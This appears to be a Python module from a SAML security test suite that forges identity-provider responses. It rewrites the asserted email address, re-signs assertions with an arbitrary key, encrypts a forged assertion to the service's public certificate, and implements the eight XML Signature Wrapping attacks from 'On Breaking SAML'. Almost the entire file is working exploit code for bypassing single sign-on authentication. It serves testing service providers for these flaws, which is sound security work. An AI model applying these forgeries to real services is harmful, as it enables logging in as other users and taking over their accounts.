"""Forgeries made from a provider's genuine response."""

import base64
import copy
import datetime

import xmlsec
from lxml import etree

NS = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol", "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}
DS = "{http://www.w3.org/2000/09/xmldsig#}"
SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"


class Response:
    """A response as a tree; `form` carries it to the service."""

    def __init__(self, form):
        self.form = form
        self.tree = etree.fromstring(base64.b64decode(form.fields["SAMLResponse"]))

    def find(self, path):
        found = self.tree.find(path, NS)
        assert found is not None, path
        return found

    @property
    def assertion(self):
        return self.find("saml:Assertion")

    @property
    def signature(self):
        return self.assertion.find("ds:Signature", NS)

    def text(self):
        return etree.tostring(self.tree)

    def posted(self, xml=None):
        """The form with this in place of the genuine response."""
        fields = {**self.form.fields, "SAMLResponse": base64.b64encode(self.text() if xml is None else xml).decode()}
        return type(self.form)(self.form.action, fields)

    def say(self, email):
        """Every address in the assertions is this one."""
        say(self.tree, email)

    def sign(self, key, certificate=None, element=None, method=xmlsec.Transform.RSA_SHA256, digest=xmlsec.Transform.SHA256):
        """Anew, by a PEM key, the assertion or another element."""
        element = self.assertion if element is None else element
        for old in element.findall("ds:Signature", NS):
            element.remove(old)
        signature = xmlsec.template.create(element, xmlsec.Transform.EXCL_C14N, method, ns="ds")
        element.insert(1, signature)  # behind the Issuer
        reference = xmlsec.template.add_reference(signature, digest, uri="#" + element.get("ID"))
        xmlsec.template.add_transform(reference, xmlsec.Transform.ENVELOPED)
        xmlsec.template.add_transform(reference, xmlsec.Transform.EXCL_C14N)
        if certificate:
            xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(signature))
        context = xmlsec.SignatureContext()
        context.key = key if isinstance(key, xmlsec.Key) else xmlsec.Key.from_memory(key, xmlsec.KeyFormat.PEM)
        if certificate:
            context.key.load_cert_from_memory(certificate, xmlsec.KeyFormat.PEM)
        context.register_id(element, "ID")
        context.sign(signature)


def say(tree, email):
    for node in tree.iter(SAML + "NameID", SAML + "AttributeValue"):
        if node.text and "@" in node.text:
            node.text = email


def without_signature(element):
    for old in element.findall("ds:Signature", NS):
        element.remove(old)
    return element


def evil_copy(element, email):
    """Without signature, of another ID, and speaking of somebody else."""
    evil = without_signature(copy.deepcopy(element))
    evil.set("ID", "_evil" + element.get("ID"))
    for inner in evil.iter(SAML + "Assertion"):
        if inner is not evil:
            inner.set("ID", "_evil" + inner.get("ID"))
    say(evil, email)
    return evil


# The eight permutations of Somorovsky et al., "On Breaking SAML" (USENIX Security 2012), as the field numbers them.


def wrap_1(response, email):
    """The genuine response inside the signature of an evil one."""
    genuine = response.tree
    signature = genuine.find("ds:Signature", NS)
    evil = evil_copy(genuine, email)
    genuine.remove(signature)
    signature.append(genuine)
    evil.insert(1, signature)
    response.tree = evil


def wrap_2(response, email):
    """The genuine response before the signature in an evil one."""
    genuine = response.tree
    signature = genuine.find("ds:Signature", NS)
    evil = evil_copy(genuine, email)
    genuine.remove(signature)
    evil.insert(1, genuine)
    evil.insert(2, signature)
    response.tree = evil


def wrap_3(response, email):
    """An evil assertion before the genuine one."""
    response.tree.insert(list(response.tree).index(response.assertion), evil_copy(response.assertion, email))


def wrap_4(response, email):
    """The genuine assertion inside an evil one."""
    genuine = response.assertion
    evil = evil_copy(genuine, email)
    response.tree.replace(genuine, evil)
    evil.append(genuine)


def wrap_5(response, email):
    """The signature in an evil assertion, the genuine one behind it."""
    genuine = response.assertion
    signature = response.signature
    evil = evil_copy(genuine, email)
    genuine.remove(signature)
    response.tree.replace(genuine, evil)
    evil.insert(1, signature)
    response.tree.append(genuine)


def wrap_6(response, email):
    """The signature in an evil assertion, the genuine one inside of it."""
    genuine = response.assertion
    signature = response.signature
    evil = evil_copy(genuine, email)
    genuine.remove(signature)
    response.tree.replace(genuine, evil)
    evil.insert(1, signature)
    signature.append(genuine)


def wrap_7(response, email):
    """An evil assertion in an extension."""
    extensions = etree.Element(SAMLP + "Extensions")
    extensions.append(evil_copy(response.assertion, email))
    response.tree.insert(1, extensions)


def wrap_8(response, email):
    """The genuine assertion in an Object of the signature of an evil one."""
    genuine = response.assertion
    signature = response.signature
    evil = evil_copy(genuine, email)
    genuine.remove(signature)
    response.tree.replace(genuine, evil)
    holder = etree.SubElement(signature, DS + "Object")
    holder.append(genuine)
    evil.insert(1, signature)


WRAPPINGS = [wrap_1, wrap_2, wrap_3, wrap_4, wrap_5, wrap_6, wrap_7, wrap_8]


def moment(seconds):
    return (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")


def encrypt(response, certificate, transport=xmlsec.Transform.RSA_OAEP):
    """The assertion, for whoever has the key of a PEM certificate: everybody can, ours is public."""
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_memory(certificate, xmlsec.KeyFormat.CERT_PEM))
    context = xmlsec.EncryptionContext(manager)
    context.key = xmlsec.Key.generate(xmlsec.KeyData.AES, 256, xmlsec.KeyDataType.SESSION)
    # A document of its own, which declares every namespace that it uses.
    alone = etree.fromstring(etree.tostring(response.assertion))
    template = xmlsec.template.encrypted_data_create(alone, xmlsec.Transform.AES256, type=xmlsec.EncryptionType.ELEMENT, ns="xenc")
    xmlsec.template.encrypted_data_ensure_cipher_value(template)
    info = xmlsec.template.encrypted_data_ensure_key_info(template, ns="ds")
    key = xmlsec.template.add_encrypted_key(info, transport)
    xmlsec.template.encrypted_data_ensure_cipher_value(key)
    holder = etree.Element(SAML + "EncryptedAssertion")
    holder.append(context.encrypt_xml(template, alone))
    response.tree.replace(response.assertion, holder)
